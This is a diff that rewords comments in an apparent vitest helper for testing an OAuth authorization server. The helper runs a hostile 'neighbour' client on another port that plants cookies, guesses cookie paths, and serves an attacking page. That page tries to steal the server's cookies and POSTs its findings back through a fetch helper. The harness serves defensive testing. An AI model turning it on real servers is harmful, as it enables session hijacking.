@@ -3,35 +3,35 @@ import { createServer, type IncomingMessage, type ServerResponse } from 'node:ht
 import { text } from 'node:stream/consumers';
 import { onTestFinished } from 'vitest';
 
-/** What came to the program: a request of the browser's. */
+/** A request that the program received from the browser. */
 export interface Came {
   readonly path: string;
   readonly cookie: string;
   readonly referrer: string;
 }
 
-/** A program on another port of the issuer's host, which is the client, and reads and keeps whatever comes. */
+/** A program on another port of the issuer's host, which is the client and records every request. */
 export interface Neighbour {
   readonly origin: string;
   readonly callback: string;
   readonly came: readonly Came[];
   /** What its pages found out. */
   readonly told: readonly string[];
-  /** Has it try everything at the next page that it shows, about this authorization server. */
+  /** Makes its next page attack this authorization server. */
   aim(target: Target): void;
   /** Resolves when its page has tried everything. */
   readonly tried: Promise<unknown>;
-  /** Has it plant cookies with each answer from now on: `Set-Cookie` headers. */
+  /** Makes every response plant these cookies: `Set-Cookie` headers. */
   plant(cookies: readonly string[]): void;
 }
 
 export interface Target {
   readonly issuer: string;
-  /** An authorization request of its own. */
+  /** Its own authorization request. */
   readonly authorize: string;
 }
 
-/** Paths where cookies might be, for whoever has to guess. */
+/** Possible paths of cookies, for guessing. */
 const GUESSES: readonly string[] = [
   '/',
   '/connect',
@@ -53,7 +53,7 @@ const GUESSES: readonly string[] = [
   '/mcp',
 ];
 
-/** Pages of the server's that the program has the browser open. */
+/** Pages of the server that the program makes the browser open. */
 const THEIRS: readonly string[] = [
   '/connect/apps',
   '/connect/apps/sign-in',
@@ -108,7 +108,7 @@ export async function startNeighbour(): Promise<Neighbour> {
 
 const TELL = `const tell = (what) => fetch('/told', { method: 'POST', body: JSON.stringify(what) });`;
 
-/** A page that tries its best to have the browser send the server's cookies here, and to learn where its pages are. */
+/** A page that tries to make the browser send the server's cookies here, and to learn the URLs of its pages. */
 const attacking = (target: Target): string => `<title>attacking</title><script>
 ${TELL}
 const target = ${JSON.stringify(target)};
